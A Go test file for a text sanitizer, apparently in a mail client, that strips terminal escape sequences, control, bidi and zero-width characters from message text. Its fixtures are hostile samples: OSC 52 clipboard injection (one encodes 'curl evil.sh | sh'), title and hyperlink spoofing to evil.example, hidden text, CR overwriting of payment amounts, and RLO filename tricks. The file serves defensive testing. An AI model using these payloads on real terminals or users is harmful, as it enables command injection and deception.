package graph

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
	"unsafe"
)

// hasForbidden reports whether s contains anything CleanText must never
// output: invalid UTF-8, a C0 control other than LF and TAB, DEL, a C1
// control, a format character (Cf), a line or paragraph separator, a
// noncharacter or a surrogate. It is written independently of clean.go on
// purpose, straight from the rules.
func hasForbidden(s string) bool {
	for i, r := range s {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return true // invalid UTF-8
		case r < 0x20 && r != '\n' && r != '\t':
			return true
		case r >= 0x7f && r <= 0x9f:
			return true
		case unicode.Is(unicode.Cf, r):
			return true
		case r == 0x2028 || r == 0x2029:
			return true
		case r >= 0xfdd0 && r <= 0xfdef, r&0xfffe == 0xfffe:
			return true
		case r >= 0xd800 && r <= 0xdfff:
			return true
		}
	}
	return false
}

// hasForbiddenLine is hasForbidden for CleanLine, which also may not output
// LF or TAB.
func hasForbiddenLine(s string) bool {
	return hasForbidden(s) || strings.ContainsAny(s, "\n\t")
}

type cleanCase struct {
	name string
	in   string
	line string // want CleanLine(in)
	text string // want CleanText(in)
}

// cleanSame builds a case whose output is the same for both functions.
func cleanSame(name, in, want string) cleanCase { return cleanCase{name, in, want, want} }

var (
	subject10K = strings.Repeat("Quarterly report Q3 ", 512) // 10,240 bytes
	longCSI    = "a\x1b[" + strings.Repeat("1;", 50000) + "31mb"
)

// cleanCases covers every row of reliability.md "Hostile text". The fuzz
// targets use the inputs as seeds.
var cleanCases = []cleanCase{
	// Operating system commands: title, clipboard, hyperlink.
	cleanSame("OSC 0 title BEL", "Hi \x1b]0;pwned\x07there", "Hi there"),
	cleanSame("OSC 2 title ST", "Hi \x1b]2;pwned\x1b\\there", "Hi there"),
	cleanSame("OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07Invoice", "Invoice"),
	cleanSame("OSC 52 clipboard ST", "Invoice\x1b]52;p;Zm9v\x1b\\", "Invoice"),
	cleanSame("OSC 8 hyperlink", "Click \x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\ now", "Click here now"),
	cleanSame("OSC 8 hyperlink BEL", "\x1b]8;id=1;https://evil.example/\x07bank.example\x1b]8;;\x07", "bank.example"),
	cleanSame("OSC with UTF-8 and invalid bytes", "a\x1b]0;t\xffé😀\x07b", "ab"),
	// CSI: clear, cursor, SGR.
	cleanSame("CSI 2J clear", "\x1b[2J\x1b[HHello", "Hello"),
	cleanSame("CSI cursor moves", "A\x1b[10;20HB\x1b[1AC\x1b[KD", "ABCD"),
	cleanSame("SGR conceal", "visible \x1b[8mhidden\x1b[0m", "visible hidden"),
	cleanSame("SGR colours", "\x1b[1;31mRED\x1b[0m \x1b[38;2;255;0;0mtrue\x1b[m \x1b[48:5:196mx\x1b[39;49m", "RED true x"),
	cleanSame("CSI private", "\x1b[?1049h\x1b[?25lalt\x1b[>4;2m", "alt"),
	cleanSame("CSI intermediates", "a\x1b[2 qb\x1b[!pc", "abc"),
	cleanSame("CSI absurdly long", longCSI, "ab"),
	cleanSame("CSI unterminated at end", "Hello\x1b[1;3", "Hello"),
	cleanSame("CSI introducer at end", "Hello \x1b[", "Hello "),
	cleanCase{"CSI broken by LF", "\x1b[31\nm", " m", "\nm"},
	cleanSame("CSI broken by non-ASCII", "\x1b[3é", "é"),
	cleanSame("CSI consumes like a terminal", "\x1b[ 100 EUR", "UR"),
	// Control strings.
	cleanSame("DCS", "a\x1bP1$r0m\x1b\\b", "ab"),
	cleanSame("DCS tmux passthrough", "a\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\b", "atmux;b"),
	cleanSame("APC kitty graphics", "a\x1b_Gf=100,a=T;AAAA\x1b\\b", "ab"),
	cleanSame("SOS", "a\x1bXsos text\x1b\\b", "ab"),
	cleanSame("PM", "a\x1b^privacy\x1b\\b", "ab"),
	cleanSame("DCS unterminated at end", "x\x1bPdata", "xdata"),
	cleanSame("OSC unterminated at end", "Subject \x1b]0;rest of text", "Subject 0;rest of text"),
	cleanCase{"OSC unterminated with LF", "\x1b]0;a\nb", "0;a b", "0;a\nb"},
	cleanSame("OSC aborted by CSI", "\x1b]0;t\x1b[31mred", "0;tred"),
	cleanSame("OSC aborted by ESC ESC", "\x1b]0;t\x1b\x1b\\x", "0;tx"),
	cleanSame("OSC aborted by CAN", "\x1b]0;t\x18x", "0;t\u2418x"),
	cleanSame("OSC aborted by SUB", "\x1b]0;t\x1ax", "0;t\u241ax"),
	cleanSame("OSC aborted by C1", "\x1b]0;t\u009b2Jx", "0;tx"),
	// 8-bit C1 forms, as runes.
	cleanSame("C1 CSI", "a\u009b2Jb", "ab"),
	cleanSame("C1 CSI SGR", "\u009b8mhidden\u009b0m", "hidden"),
	cleanSame("C1 OSC ST", "a\u009d0;title\u009cb", "ab"),
	cleanSame("C1 OSC BEL", "a\u009d0;t\x07b", "ab"),
	cleanSame("C1 OSC 7-bit ST", "a\u009d52;c;Zm9v\x1b\\b", "ab"),
	cleanSame("C1 DCS", "a\u0090q#0;2;0;0;0\u009cb", "ab"),
	cleanSame("C1 SOS", "a\u0098s\u009cb", "ab"),
	cleanSame("C1 PM", "a\u009ep\u009cb", "ab"),
	cleanSame("C1 APC", "a\u009fGf=1\u009cb", "ab"),
	cleanSame("C1 OSC unterminated", "x\u009dtail", "xtail"),
	cleanSame("C1 CSI unterminated", "x\u009b12", "x"),
	cleanSame("C1 others removed", "a\u0080\u0084\u008e\u0099\u009cb", "ab"),
	// Raw C1 bytes are invalid UTF-8.
	cleanSame("raw 0x9b byte", "a\x9b2Jb", "a\uFFFD2Jb"),
	cleanSame("raw 0x9d byte", "\x9d0;x\x07", "\uFFFD0;x\u2407"),
	cleanSame("raw 0x9c inside OSC is not ST", "a\x1b]0;x\x9cb", "a0;x\uFFFDb"),
	// Other ESC forms.
	cleanSame("lone ESC at end", "abc\x1b", "abc"),
	cleanSame("ESC ESC", "\x1b\x1b[2Jx", "x"),
	cleanSame("ESC before non-ASCII", "\x1bé", "é"),
	cleanCase{"ESC before LF", "a\x1b\nb", "a b", "a\nb"},
	cleanSame("two-byte ESC forms", "\x1b7\x1b8\x1bc\x1bM\x1b=\x1b>\x1bNx\x1b\\", "x"),
	cleanSame("nF ESC forms", "\x1b(Bx\x1b#8y\x1b%Gz", "xyz"),
	cleanSame("nF cut off", "x\x1b( ", "x"),
	cleanCase{"nF broken", "\x1b(\ny", " y", "\ny"},
	cleanSame("ESC DEL", "a\x1b\x7fb", "a\u2421b"),
	// Overwriting and line structure.
	cleanCase{"CR overwrite", "Pay 100 EUR\rPay 900", "Pay 100 EUR Pay 900", "Pay 100 EUR\nPay 900"},
	cleanCase{"CRLF", "a\r\nb", "a b", "a\nb"},
	cleanCase{"CRLF CRLF", "a\r\n\r\nb", "a b", "a\n\nb"},
	cleanCase{"CR escape LF", "a\r\x1b[K\nb", "a b", "a\nb"},
	cleanCase{"LF CR", "a\n\rb", "a b", "a\n\nb"},
	cleanCase{"CR CR LF", "a\r\r\nb", "a b", "a\n\nb"},
	cleanCase{"trailing CRLF", "Subject\r\n", "Subject ", "Subject\n"},
	cleanSame("backspace", "abc\b\b\bxyz", "abc\u2408\u2408\u2408xyz"),
	cleanCase{"tab", "a\tb", "a b", "a\tb"},
	cleanCase{"tabs and breaks", "a\t\t\n b", "a  b", "a\t\t\n b"},
	cleanCase{"newline", "line one\nline two", "line one line two", "line one\nline two"},
	cleanCase{"VT FF", "a\vb\fc", "a b c", "a\nb\nc"},
	cleanCase{"NEL LS PS", "a\u0085b\u2028c\u2029d", "a b c d", "a\nb\nc\nd"},
	cleanCase{"marker between breaks", "a\r\x00\nb", "a \u2400 b", "a\n\u2400\nb"},
	// Other C0 and DEL.
	cleanSame("NUL", "a\x00b", "a\u2400b"),
	cleanSame("BEL", "ding\x07", "ding\u2407"),
	cleanSame("DEL", "a\x7fb", "a\u2421b"),
	cleanSame("C0 range", "\x01\x02\x03\x04\x05\x06\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x19\x1c\x1d\x1e\x1f",
		"\u2401\u2402\u2403\u2404\u2405\u2406\u240e\u240f\u2410\u2411\u2412\u2413\u2414\u2415\u2416\u2417\u2419\u241c\u241d\u241e\u241f"),
	cleanSame("markers stay", "\u2400\u241b\u2421", "\u2400\u241b\u2421"),
	// Bidi, zero-width and other format characters.
	cleanSame("RLO filename", "invoice\u202Efdp.exe", "invoicefdp.exe"),
	cleanSame("bidi embeddings", "\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee", "abcde"),
	cleanSame("bidi isolates", "\u2066a\u2067b\u2068c\u2069d", "abcd"),
	cleanSame("LRM RLM ALM", "a\u200Eb\u200Fc\u061Cd", "abcd"),
	cleanSame("zero-width space", "pay\u200Bpal.com", "paypal.com"),
	cleanSame("ZWNJ", "a\u200Cb", "ab"),
	cleanSame("ZWJ splits emoji", "👨\u200D👩\u200D👧", "👨👩👧"),
	cleanSame("word joiner etc", "a\u2060b\u2061c\u2062d\u2063e\u2064f", "abcdef"),
	cleanSame("BOM", "\uFEFFHello\uFEFF", "Hello"),
	cleanSame("Mongolian vowel separator", "a\u180Eb", "ab"),
	cleanSame("soft hyphen", "co\u00ADoperate", "cooperate"),
	cleanSame("tag characters", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F", "🏴"),
	cleanSame("language tag", "\U000E0001\U000E0065a", "a"),
	cleanSame("interlinear annotation", "\uFFF9a\uFFFAb\uFFFB", "ab"),
	cleanSame("Arabic number sign", "\u0600\u0661", "\u0661"),
	cleanSame("musical format", "a\U0001D173b", "ab"),
	// Noncharacters.
	cleanSame("noncharacters", "a\uFFFEb\uFFFFc\uFDD0d\uFDEFe\U0001FFFEf\U0010FFFF", "abcdef"),
	// Invalid UTF-8.
	cleanSame("invalid bytes", "a\xffb\xc3(", "a\uFFFDb\uFFFD("),
	cleanSame("encoded surrogate", "\xed\xa0\x80", "\uFFFD\uFFFD\uFFFD"),
	cleanSame("overlong", "\xc0\xaf", "\uFFFD\uFFFD"),
	cleanSame("truncated at end", "ok\xe4\xb8", "ok\uFFFD\uFFFD"),
	cleanSame("real U+FFFD kept", "a\uFFFDb", "a\uFFFDb"),
	// Long, and text that must come through unchanged.
	cleanSame("10 KB subject", subject10K, subject10K),
	{"10 KB hostile subject", strings.Repeat("Re: \x1b]0;x\x07pay\r", 512),
		strings.Repeat("Re: pay ", 512), strings.Repeat("Re: pay\n", 512)},
	cleanSame("CJK", "会議の議題：来週の予定について", "会議の議題：来週の予定について"),
	cleanSame("Hangul", "회의 안건", "회의 안건"),
	cleanSame("emoji", "😀👍🏽🇫🇷❤️1️⃣🧑‍", "😀👍🏽🇫🇷❤️1️⃣🧑"),
	cleanSame("combining", "e\u0301 a\u030a", "e\u0301 a\u030a"),
	cleanSame("RTL text without controls", "שלום مرحبا", "שלום مرحبا"),
	cleanSame("NBSP and other spaces", "a\u00a0b\u2003c\u3000d", "a\u00a0b\u2003c\u3000d"),
	cleanSame("Latin-1 and symbols", "Ünïcödé © ® € ﷺ \uFFFC", "Ünïcödé © ® € ﷺ \uFFFC"),
	cleanSame("private use", "\uE000\U000F0000", "\uE000\U000F0000"),
	cleanSame("empty", "", ""),
	cleanCase{"Graph error message", "Mailbox \x1b]0;x\x07not found\x1b[2J\r\n", "Mailbox not found ", "Mailbox not found\n"},
}

func TestCleanLine(t *testing.T) {
	for _, tc := range cleanCases {
		t.Run(tc.name, func(t *testing.T) {
			got := CleanLine(tc.in)
			if got != tc.line {
				t.Errorf("CleanLine(%+q)\n got %+q\nwant %+q", cleanShort(tc.in), cleanShort(got), cleanShort(tc.line))
			}
			checkCleanOutput(t, "CleanLine", tc.in, got, CleanLine, hasForbiddenLine)
		})
	}
}

func TestCleanText(t *testing.T) {
	for _, tc := range cleanCases {
		t.Run(tc.name, func(t *testing.T) {
			got := CleanText(tc.in)
			if got != tc.text {
				t.Errorf("CleanText(%+q)\n got %+q\nwant %+q", cleanShort(tc.in), cleanShort(got), cleanShort(tc.text))
			}
			checkCleanOutput(t, "CleanText", tc.in, got, CleanText, hasForbidden)
		})
	}
}

// checkCleanOutput checks the properties every output must have; the fuzz
// targets use it too.
func checkCleanOutput(t *testing.T, name, in, got string, f func(string) string, forbidden func(string) bool) {
	t.Helper()
	if !utf8.ValidString(got) {
		t.Errorf("%s(%+q) = %+q: invalid UTF-8", name, cleanShort(in), cleanShort(got))
	}
	if forbidden(got) {
		t.Errorf("%s(%+q) = %+q: has a forbidden rune", name, cleanShort(in), cleanShort(got))
	}
	if strings.ContainsRune(got, 0x1b) {
		t.Errorf("%s(%+q) = %+q: has ESC", name, cleanShort(in), cleanShort(got))
	}
	if again := f(got); again != got {
		t.Errorf("%s not idempotent on %+q:\n once  %+q\n twice %+q", name, cleanShort(in), cleanShort(got), cleanShort(again))
	}
}

// cleanShort keeps failure messages readable for the long cases.
func cleanShort(s string) string {
	if len(s) > 200 {
		return s[:200] + "..."
	}
	return s
}

func TestCleanLineFromCleanText(t *testing.T) {
	// A body cleaned for text can still be shown on one row.
	for _, tc := range cleanCases {
		if got := CleanLine(tc.text); hasForbiddenLine(got) {
			t.Errorf("CleanLine(CleanText(%+q)) = %+q", cleanShort(tc.in), cleanShort(got))
		}
	}
}

func TestCleanReturnsInputWhenClean(t *testing.T) {
	for _, s := range []string{"", "Hello, world", subject10K, "会議の議題 😀👍🏽 Ünïcödé"} {
		for name, f := range map[string]func(string) string{"CleanLine": CleanLine, "CleanText": CleanText} {
			got := f(s)
			if got != s || (len(s) > 0 && unsafe.StringData(got) != unsafe.StringData(s)) {
				t.Errorf("%s(%q) did not return its input itself", name, cleanShort(s))
			}
			if n := testing.AllocsPerRun(100, func() { _ = f(s) }); n != 0 {
				t.Errorf("%s(%q): %v allocs, want 0", name, cleanShort(s), n)
			}
		}
	}
	body := "Hi Bob,\n\n\tthe numbers:\n\t1\t2\n"
	if got := CleanText(body); unsafe.StringData(got) != unsafe.StringData(body) {
		t.Errorf("CleanText did not return a clean body itself")
	}
}

// TestForbiddenRune checks the fast range test in forbiddenRune against the
// rules, for every rune.
func TestForbiddenRune(t *testing.T) {
	for r := rune(0x80); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue // not representable in a valid string
		}
		want := hasForbidden(string(r))
		if got := forbiddenRune(r); got != want {
			t.Errorf("forbiddenRune(%U) = %v, want %v", r, got, want)
		}
	}
}

// TestCleanEveryRune runs every rune through both cleaners: each rune that
// must change alone between text, and all the others at once.
func TestCleanEveryRune(t *testing.T) {
	var allowed strings.Builder
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue // not representable in a valid string
		}
		if !hasForbiddenLine(string(r)) {
			allowed.WriteRune(r)
			continue
		}
		s := "a" + string(r) + "b"
		// After BEL no escape sequence can still be open, so the "b" must
		// survive whatever r starts.
		sBEL := "a" + string(r) + "\x07b"
		for _, c := range []struct {
			name      string
			f         func(string) string
			forbidden func(string) bool
		}{{"CleanLine", CleanLine, hasForbiddenLine}, {"CleanText", CleanText, hasForbidden}} {
			got := c.f(s)
			if c.forbidden(got) || c.f(got) != got || !strings.HasPrefix(got, "a") {
				t.Fatalf("%s(%+q) = %+q", c.name, s, got)
			}
			if !c.forbidden(s) && got != s {
				t.Fatalf("%s(%+q) = %+q, changed a clean string", c.name, s, got)
			}
			got = c.f(sBEL)
			if c.forbidden(got) || c.f(got) != got || !strings.HasPrefix(got, "a") || !strings.HasSuffix(got, "b") {
				t.Fatalf("%s(%+q) = %+q", c.name, sBEL, got)
			}
		}
	}
	all := allowed.String()
	if got := CleanLine(all); unsafe.StringData(got) != unsafe.StringData(all) {
		t.Errorf("CleanLine changed a string of all %d allowed runes", utf8.RuneCountInString(all))
	}
	if got := CleanText(all); unsafe.StringData(got) != unsafe.StringData(all) {
		t.Errorf("CleanText changed a string of all %d allowed runes", utf8.RuneCountInString(all))
	}
}

func TestCleanPathologicalInputsAreLinear(t *testing.T) {
	// Each of these would take minutes if scanning were quadratic.
	const n = 1 << 20
	for name, s := range map[string]string{
		"many OSC introducers":    strings.Repeat("\x1b]", n/2),
		"many C1 OSC":             strings.Repeat("\u009d", n/2),
		"OSC then long text":      strings.Repeat("\x1b]"+strings.Repeat("x", 1000), n/1002),
		"many CSI introducers":    strings.Repeat("\x1b[", n/2),
		"many broken CSI":         strings.Repeat("\x1b[1;2\x01", n/6),
		"many nF":                 strings.Repeat("\x1b(", n/2),
		"CR LF storm":             strings.Repeat("\r\n\r", n/3),
		"invalid bytes":           strings.Repeat("\xff", n),
		"one huge OSC terminated": "\x1b]" + strings.Repeat("y", n) + "\x07z",
	} {
		for _, f := range []func(string) string{CleanLine, CleanText} {
			if got := f(s); hasForbidden(got) {
				t.Errorf("%s: forbidden rune in output", name)
			}
		}
	}
}

var cleanSink string

func BenchmarkCleanLineClean(b *testing.B) {
	s := "Re: Quarterly planning meeting - agenda and notes for Thursday"
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		cleanSink = CleanLine(s)
	}
}

func BenchmarkCleanLineCleanUnicode(b *testing.B) {
	s := "Re: 会議の議題 — Ünïcödé 😀 planning meeting"
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		cleanSink = CleanLine(s)
	}
}

func BenchmarkCleanLineHostile(b *testing.B) {
	s := "\x1b]0;pwned\x07Pay 100 EUR\rPay 900 \x1b[8mhidden\x1b[0m invoice\u202Efdp.exe\u200B \x9b2J\x00"
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		cleanSink = CleanLine(s)
	}
}

// body4K is a plain-text body of about 4 KB with CRLF line ends, as Graph
// often returns, so CleanText has to rewrite it.
var body4K = strings.Repeat("Hi Bob,\r\n\r\nThe quarterly numbers are attached; please check the totals before Thursday.\r\n\tThanks — Ünïcödé 😀\r\n", 36)

func BenchmarkCleanTextBody(b *testing.B) {
	b.SetBytes(int64(len(body4K)))
	b.ReportAllocs()
	for b.Loop() {
		cleanSink = CleanText(body4K)
	}
}

func BenchmarkCleanTextBodyClean(b *testing.B) {
	s := strings.ReplaceAll(body4K, "\r\n", "\n")
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		cleanSink = CleanText(s)
	}
}
